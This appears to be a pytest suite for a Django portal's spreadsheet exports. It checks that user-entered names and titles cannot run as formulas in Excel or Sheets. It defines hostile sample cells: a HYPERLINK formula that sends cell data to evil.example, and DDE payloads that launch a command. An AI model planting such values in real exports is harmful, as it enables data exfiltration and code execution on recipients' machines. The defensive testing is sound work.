"""Every spreadsheet the portal hands out, read back with pandas (and openpyxl for XLSX): no text
cell can run as a formula in Excel, LibreOffice or Sheets, and accents survive (the UTF-8 byte
order mark is what makes Excel read "Siân" rather than "SiÃ¢n")."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pandas as pd
import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from events.cpd.services.log import add_external_activity
from governance.lay.services import expenses
from governance.models import Attendance
from governance.services.meetings import record_attendance
from sigs.models import Adoption
from sigs.services.adoption import set_adoption
from tests.events.factories import BookingFactory
from tests.governance.factories import AgendaItemFactory, DecisionFactory
from tests.governance.fixtures_risks import RiskFactory
from tests.portal.factories import UserFactory
from tests.roundup.factories import SubscriberFactory, comms_person
from tests.sigs.factories import ProtocolPageFactory
from tests.sigs.fixtures import approve_through_workflow

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
# What a hostile name or title might hold: one value per character a spreadsheet runs.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLUS = "+44 121 496 0000+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, PLUS, MINUS, AT]
ACCENTED = "Siân Gruffydd-Jones"
RUNS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9,.]+")


def read_csv(content):
    assert content.startswith(BOM), "no byte order mark: Excel would read the accents wrong"
    frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str)
    return frame.fillna("")


def cells(frame):
    yield from frame.columns
    for row in frame.itertuples(index=False):
        yield from row


def assert_safe(frame, *, hostile, accented=(ACCENTED,)):
    """No cell in any column runs as a formula; each hostile value is there, as text."""
    every = list(cells(frame))
    for cell in every:
        assert not (cell.startswith(RUNS) and not NUMBER.fullmatch(cell)), cell
    for value in hostile:
        assert any(cell.startswith("'" + value) for cell in every), value
    for value in accented:
        assert any(value in cell for cell in every), value


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def test_the_risk_register_csv_and_xlsx(client, risk_world):
    owner = UserFactory(first_name="Siân", last_name="Gruffydd-Jones")
    RiskFactory(
        group=risk_world.sig,
        title=HYPERLINK,
        cause=PLUS,
        event=MINUS,
        effect=AT,
        controls="\tTab-led text",
        owner=owner,
    )
    client.force_login(risk_world.world.admin)
    url = reverse("governance:risk_register", args=[risk_world.sig.pk])

    response = client.get(url, {"export": "csv"})
    assert response["Cache-Control"] == "private, no-store"
    assert_safe(read_csv(response.content), hostile=[*HOSTILE, "\tTab-led text"])

    response = client.get(url, {"export": "xlsx"})
    content = response.content
    frame = pd.read_excel(io.BytesIO(content), dtype=str).fillna("")
    for value in HOSTILE:
        assert value in set(cells(frame)), value  # reads exactly as written
    assert ACCENTED in set(cells(frame))
    sheet = load_workbook(io.BytesIO(content)).active
    risky = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith(RUNS)]
    assert len(risky) == 5
    for cell in risky:
        # A text cell with Excel's own text marker: shown as written, never run, and still
        # text when someone edits it.
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate


def test_the_decision_register_csv(client, world):
    item = AgendaItemFactory(meeting=world.meeting, title=AT, visibility="public")
    DecisionFactory(meeting=world.meeting, agenda_item=item, text=HYPERLINK)
    DecisionFactory(meeting=world.meeting, agenda_item=item, text=f"{MINUS}, said {ACCENTED}")
    DecisionFactory(meeting=world.meeting, agenda_item=item, text=PLUS)
    client.force_login(world.admin)
    response = client.get(reverse("governance:decision_export"))
    assert_safe(read_csv(body(response)), hostile=HOSTILE)


def test_the_attendee_list_csv(client, world, event):
    person = UserFactory(
        first_name=HYPERLINK, last_name="Siân Gruffydd-Jones", job_title=PLUS, email="s@nhs.net"
    )
    BookingFactory(event=event, person=person, answers={"access": MINUS, "dietary": AT})
    event.ask_dietary_needs = event.ask_access_needs = True
    event.save()
    client.force_login(world.chair)
    response = client.get(reverse("events:attendees_csv", args=[event.pk]))
    assert_safe(read_csv(response.content), hostile=HOSTILE)


def test_the_expenses_csv_guards_the_volunteer_editable_name(client, world):
    meeting = world.meeting
    meeting.title = AT
    meeting.start = timezone.now() - dt.timedelta(days=1)
    meeting.end = meeting.start + dt.timedelta(hours=2)
    meeting.save()
    volunteer = world.lay_member
    volunteer.first_name, volunteer.last_name = HYPERLINK, ACCENTED
    volunteer.save()
    record_attendance(meeting, volunteer, Attendance.Status.PRESENT, recorded_by=world.chair)
    office = UserFactory(network_office=True, first_name=PLUS, last_name=MINUS)
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.lay.test_expenses import PNG

    claim = expenses.submit_claim(
        meeting,
        by=volunteer,
        travel_mode="car",
        miles=Decimal("24"),
        parking=Decimal("4.50"),
        receipt=SimpleUploadedFile("receipt.png", PNG),
    )
    expenses.decide_claim(claim, by=office, approve=True)
    client.force_login(office)
    frame = read_csv(client.get(reverse("governance:expense_export")).content)
    assert_safe(frame, hostile=[AT, PLUS])
    assert frame["Claimant"][0] == f"'{HYPERLINK} {ACCENTED}"


def test_the_variation_csv_guards_protocol_titles(client, sig_world):
    chair = sig_world.chair
    protocol = ProtocolPageFactory(parent=sig_world.sig, title=HYPERLINK)
    protocol.save_revision(user=chair)
    approve_through_workflow(protocol, chair)
    protocol.refresh_from_db()
    trust = sig_world.trusts[1]
    trust.name = f"{PLUS} {ACCENTED} NHS Trust"
    trust.save()
    set_adoption(
        protocol.current_version,
        trust,
        chair,
        Adoption.Status.LOCAL_VARIATION,
        variation_reason=MINUS,
    )
    client.force_login(sig_world.member)
    response = client.get(reverse("sigs:variation_csv"))
    assert_safe(read_csv(response.content), hostile=[HYPERLINK, PLUS])


def test_the_cpd_log_csv(client, evaluated_booking):
    person = evaluated_booking.person
    add_external_activity(
        person,
        {
            "activity_type": "self_directed",
            "title": HYPERLINK,
            "provider": f"{PLUS} ({ACCENTED})",
            "start_date": dt.date(2025, 1, 10),
            "hours": Decimal("0.75"),
            "reflection": MINUS,
            "outcomes": AT,
        },
    )
    client.force_login(person)
    response = client.get(reverse("cpd:export_csv"))
    assert response["Cache-Control"] == "private, no-store"
    assert_safe(read_csv(body(response)), hostile=[HYPERLINK, PLUS, MINUS, AT])


def test_the_round_up_subscriber_export(client, roundup_site):
    client.force_login(comms_person())
    SubscriberFactory(email="eve@partner.example", first_name=HYPERLINK)
    SubscriberFactory(email="sian@partner.example", first_name=ACCENTED)
    SubscriberFactory(email="plus@partner.example", first_name=PLUS)
    SubscriberFactory(email="minus@partner.example", first_name=MINUS)
    SubscriberFactory(email="at@partner.example", first_name=AT)
    response = client.get(reverse("roundup_subscribers:export"))
    assert_safe(read_csv(response.content), hostile=HOSTILE)


def test_the_our_year_csv_bundle(client, world):
    trust = world.trusts[0]
    trust.name = f"{HYPERLINK} {ACCENTED}"
    trust.save()
    client.force_login(world.member)
    today = timezone.localdate()
    response = client.get(
        reverse("dashboard:our_year_csv"), {"start": today - dt.timedelta(days=365), "end": today}
    )
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    for name in bundle.namelist():
        frame = read_csv(bundle.read(name))
        assert_safe(frame, hostile=[], accented=[])
